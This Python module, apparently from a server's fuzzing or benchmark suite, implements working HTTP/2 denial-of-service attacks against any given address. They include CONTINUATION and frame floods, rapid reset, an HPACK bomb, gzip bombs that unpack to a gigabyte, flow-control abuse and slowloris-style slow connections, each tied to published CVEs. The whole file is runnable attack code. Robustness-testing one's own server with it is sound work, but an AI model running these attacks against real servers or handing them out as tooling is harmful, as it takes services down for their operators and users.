"""What is known to bring HTTP/2 servers down, one after the other.

CONTINUATION flood: CVE-2024-27316. Rapid reset: CVE-2023-44487. Floods of pings, settings, resets,
priorities and empty frames, a tiny window: CVE-2019-9511 to 9518. HPACK bomb: CVE-2016-6581.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.events
import hpack

from benchmarks.fuzz.frames import (
    GENERATE,
    PREFACE,
    data,
    headers,
    headers_of,
    message,
    raw_frame,
    settings,
)

HEADERS, PRIORITY, RST_STREAM, PING, WINDOW_UPDATE, CONTINUATION = 1, 2, 3, 6, 8, 9
FRAME_COUNT = 50_000  # of a flood
STREAM_COUNT = 5_000
LORIS_COUNT = 300  # connections that send a byte at a time
BYTE_INTERVAL_S = 0.2  # of a message
LORIS_INTERVAL_S = 0.5  # of the first bytes of a connection
STALL_LIMIT_S = 20.0  # a server that reads no more for so long has had enough
CHUNK_BYTES = 65_536


@dataclass(frozen=True, slots=True)
class Attack:
    """act: takes the address; returns what became of it, in words."""

    name: str
    act: Callable[[str], Awaitable[str]]


@contextlib.asynccontextmanager
async def connected(
    address: str,
) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """A connection that begins as HTTP/2 does."""
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    try:
        writer.write(PREFACE + settings())
        yield reader, writer
    finally:
        writer.transport.abort()


async def pour(address: str, frames: Iterable[bytes], *, reads: bool = False) -> str:
    """Send all of it on one connection, as fast as it is taken. reads: the answers, too."""
    sent = count = 0
    async with connected(address) as (reader, writer):
        reading = asyncio.create_task(_drop(reader)) if reads else None
        buffer = bytearray()
        try:
            for frame in frames:
                buffer += frame
                count += 1
                if len(buffer) >= CHUNK_BYTES:
                    sent += await _push(writer, buffer)
            sent += await _push(writer, buffer)
        except TimeoutError:
            return f"no longer read after {count:,} frames, {sent:,} bytes"
        except OSError:
            return f"cut off after {count:,} frames, {sent:,} bytes"
        finally:
            if reading:
                reading.cancel()
        if reads:
            return f"{count:,} frames, {sent:,} bytes taken"
        return f"{count:,} frames, {sent:,} bytes taken; {await _ended(reader)}"


async def _push(writer: asyncio.StreamWriter, buffer: bytearray) -> int:
    size = len(buffer)
    writer.write(bytes(buffer))
    buffer.clear()
    async with asyncio.timeout(STALL_LIMIT_S):
        await writer.drain()
    if writer.transport.is_closing():
        raise ConnectionResetError
    return size


async def _drop(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(CHUNK_BYTES):
            pass


async def _ended(reader: asyncio.StreamReader, limit_s: float = 1.0) -> str:
    try:
        async with asyncio.timeout(limit_s):
            await _drop(reader)
    except TimeoutError:
        return "still open"
    return "then closed"


def streams(count: int = STREAM_COUNT) -> range:
    """Numbers of a client's streams."""
    return range(1, 2 * count, 2)


def bomb() -> bytes:
    """A megabyte that gzip unpacks to a gigabyte."""
    packed = gzip.compress(bytes(2**30), 9)
    return message(packed, flag=1)


async def continuation_flood(address: str) -> str:
    """A head that never ends."""
    part = raw_frame(
        CONTINUATION, 0, 1, hpack.Encoder().encode([("x-a", "b" * 8000)], huffman=False)
    )
    head = headers(1, headers_of(), is_whole=False)
    return await pour(address, (head, *(part for _ in range(FRAME_COUNT // 5))))


async def hpack_bomb(address: str) -> str:
    """One large header, then thousands of references to it, a byte each."""
    encoder = hpack.Encoder()
    large = [("x-a", "b" * 3900)]
    first = encoder.encode([*headers_of(), *large], huffman=False)
    again = encoder.encode(large)
    head = raw_frame(HEADERS, 5, 1, first)
    return await pour(
        address, (head, *(raw_frame(HEADERS, 5, one, again * 16_000) for one in streams(200)))
    )


async def header_flood(address: str) -> str:
    """Calls with as many headers as are taken, all at a time."""
    many = [(f"x-{number}", "y" * 60) for number in range(100)]
    return await pour(
        address, (headers(one, headers_of(more=many), ends=False) for one in streams(2000))
    )


async def oversized_metadata(address: str) -> str:
    """Headers of a megabyte."""
    large = hpack.Encoder().encode([("x-a", "b" * 2**20)], huffman=False)
    parts = [large[at : at + 16_000] for at in range(0, len(large), 16_000)]
    head = headers(1, headers_of(), is_whole=False)
    return await pour(address, (head, *(raw_frame(CONTINUATION, 0, 1, part) for part in parts)))


async def rapid_reset(address: str) -> str:
    """Calls that are taken back at once."""

    def frames() -> Iterable[bytes]:
        for one in streams(FRAME_COUNT):
            yield headers(one, headers_of(GENERATE)) + raw_frame(RST_STREAM, 0, one, b"\0\0\0\x08")

    return await pour(address, frames(), reads=True)


def flood(frame: bytes) -> Callable[[str], Awaitable[str]]:
    """The same frame again and again; nobody reads the answers."""

    async def act(address: str) -> str:
        return await pour(address, (frame for _ in range(FRAME_COUNT)))

    return act


async def empty_frames(address: str) -> str:
    """A call whose message is made of nothing."""
    nothing = data(1, b"", ends=False)
    return await pour(address, (headers(1, headers_of()), *(nothing for _ in range(FRAME_COUNT))))


async def too_many_streams(address: str) -> str:
    """More calls at a time than the server allows, none of which goes on."""
    return await pour(address, (headers(one, headers_of()) for one in streams()))


async def no_window(address: str) -> str:
    """Calls whose answers nobody takes."""
    closed = settings({4: 0})
    calls = (headers(one, headers_of()) + data(one, message(b"")) for one in streams(1000))
    return await pour(address, (closed, *calls))


async def window_overflow(address: str) -> str:
    """A window beyond what a window may be."""
    grow = raw_frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff")
    return await pour(address, (grow for _ in range(1000)))


async def lying_lengths(address: str) -> str:
    """Messages that say that megabytes follow."""
    prefix = message(b"abc", length=4_000_000)
    return await pour(
        address,
        (headers(one, headers_of()) + data(one, prefix, ends=False) for one in streams(1000)),
    )


async def gzip_bombs(address: str) -> str:
    """Fifty calls, each a gigabyte where it is unpacked."""
    packed = await asyncio.to_thread(bomb)
    ends = [await _call_with(address, packed) for _ in range(50)]
    return f"{len(packed):,} bytes each; {sum(ends)} of {len(ends)} calls ended"


async def _call_with(address: str, body: bytes) -> bool:
    """Send one message with as much window as there is; whether the call ended."""
    host, _, port = address.rpartition(":")
    client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    client.initiate_connection()
    client.send_headers(1, [*headers_of(GENERATE), ("grpc-encoding", "gzip")])
    reader, writer = await asyncio.open_connection(host, int(port))
    try:
        async with asyncio.timeout(60):
            while True:
                room = min(client.local_flow_control_window(1), client.max_outbound_frame_size)
                if body and room:
                    client.send_data(1, body[:room], end_stream=len(body) <= room)
                    body = body[room:]
                    writer.write(client.data_to_send())
                    continue
                writer.write(client.data_to_send())
                for event in client.receive_data(await reader.read(CHUNK_BYTES)):
                    if isinstance(event, h2.events.StreamEnded | h2.events.StreamReset):
                        return True
    finally:
        writer.transport.abort()


async def slow_loris(address: str, sent: bytes) -> str:
    """Many connections that send a byte every half second; how many the server ended by itself."""

    async def one() -> bool:
        host, _, port = address.rpartition(":")
        reader, writer = await asyncio.open_connection(host, int(port))
        reading = asyncio.create_task(_drop(reader))
        try:
            for at in range(len(sent)):
                if reading.done():
                    return True
                with contextlib.suppress(OSError):
                    writer.write(sent[at : at + 1])
                await asyncio.sleep(LORIS_INTERVAL_S)
            return reading.done()
        finally:
            reading.cancel()
            writer.transport.abort()

    ended = await asyncio.gather(*(one() for _ in range(LORIS_COUNT)))
    return f"{sum(ended)} of {LORIS_COUNT} connections ended by the server"


async def slow_preface(address: str) -> str:
    """The first bytes of a connection."""
    return await slow_loris(address, PREFACE + settings())


async def slow_head(address: str) -> str:
    """The head of a request in HTTP/1.1."""
    return await slow_loris(address, b"GET /metrics HTTP/1.1\r\nX: " + b"a" * 20)


async def slow_messages(address: str) -> str:
    """Many calls, each of which waits for its message by the byte."""

    async def one() -> bool:
        async with connected(address) as (reader, writer):
            body = data(1, message(b"\x08\x01" * 50))
            writer.write(headers(1, headers_of()) + body[:9])
            content = bytearray()
            for at in range(9, len(body)):
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(BYTE_INTERVAL_S):
                        content += await reader.read(CHUNK_BYTES)
                if b"did not arrive" in content:
                    return True
                writer.write(body[at : at + 1])
            return False

    ended = await asyncio.gather(*(one() for _ in range(LORIS_COUNT)))
    return f"{sum(ended)} of {LORIS_COUNT} calls refused with their reason"


ATTACKS = (
    Attack("CONTINUATION flood", continuation_flood),
    Attack("HPACK bomb", hpack_bomb),
    Attack("header flood", header_flood),
    Attack("oversized metadata", oversized_metadata),
    Attack("rapid reset", rapid_reset),
    Attack("SETTINGS flood", flood(settings({1: 4096}))),
    Attack("PING flood", flood(raw_frame(PING, 0, 0, bytes(8)))),
    Attack("PRIORITY flood", flood(raw_frame(PRIORITY, 0, 1, b"\0\0\0\x03\x10"))),
    Attack("flood of unknown frames", flood(raw_frame(99, 0, 0, bytes(100)))),
    Attack("empty DATA frames", empty_frames),
    Attack("too many streams", too_many_streams),
    Attack("answers that nobody takes", no_window),
    Attack("window overflow", window_overflow),
    Attack("lengths that lie", lying_lengths),
    Attack("gzip bombs", gzip_bombs),
    Attack("slow connections", slow_preface),
    Attack("slow messages", slow_messages),
)
PAGE_ATTACKS = (Attack("slow requests to the metrics port", slow_head),)
